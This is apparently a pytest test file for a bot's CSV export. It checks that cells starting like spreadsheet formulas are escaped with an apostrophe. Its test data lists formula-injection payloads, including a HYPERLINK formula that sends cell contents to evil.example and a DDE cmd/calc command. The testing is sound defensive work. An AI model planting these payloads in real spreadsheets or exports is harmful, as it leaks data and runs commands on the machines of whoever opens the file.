"""CSV formula injection: no cell the project writes starts like a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from bot.cli import cli
from bot.csv_cells import FORMULA_STARTS, SafeCsvWriter, neutralise_cell
from bot.review.export import write_groups, write_questions
from bot.review.grouping import QuestionGrouper
from bot.review.store import ReviewFilter

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "＝1+1", "－1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_an_apostrophe(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["住民票", "a=b", "1-2", "", " =1", "'=1", 0, -1, -0.5, None])
def test_other_cells_are_unchanged(value):
    assert neutralise_cell(value) == value


def test_writer_neutralises_every_text_cell():
    out = io.StringIO()
    SafeCsvWriter(out).writerows([["=1+1", -3, "ok"], ["@x", "y", "+z"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-3", "ok"], ["'@x", "y", "'+z"]]


def assert_no_formula_cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    return rows


def seed_attacks(log, clock):
    for i, text in enumerate(ATTACKS):
        log.record(f"c{i}", "web", text, "cannot_answer", [])


def test_review_exports_are_safe_to_open_in_a_spreadsheet(log, clock):
    seed_attacks(log, clock)
    questions = log.questions(ReviewFilter(outcomes=(), status=None))
    out = io.StringIO()
    write_questions(out, questions)
    rows = assert_no_formula_cells(out.getvalue())
    texts = [r[rows[0].index("text")] for r in rows[1:]]
    assert sorted(texts) == sorted("'" + t for t in ATTACKS)  # kept, readable, not run
    out = io.StringIO()
    write_groups(out, QuestionGrouper().group(questions))
    assert_no_formula_cells(out.getvalue())


def test_cli_export_is_safe(review_settings, log, clock, monkeypatch):
    seed_attacks(log, clock)
    monkeypatch.setenv("MADOGUCHI_VAR_DIR", str(review_settings.var_dir))
    for kind in ("questions", "groups"):
        result = CliRunner().invoke(cli, ["--project-dir", str(review_settings.project_dir), "review", "export", "--csv",
                                          "--kind", kind], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        assert len(assert_no_formula_cells(result.output)) > 1
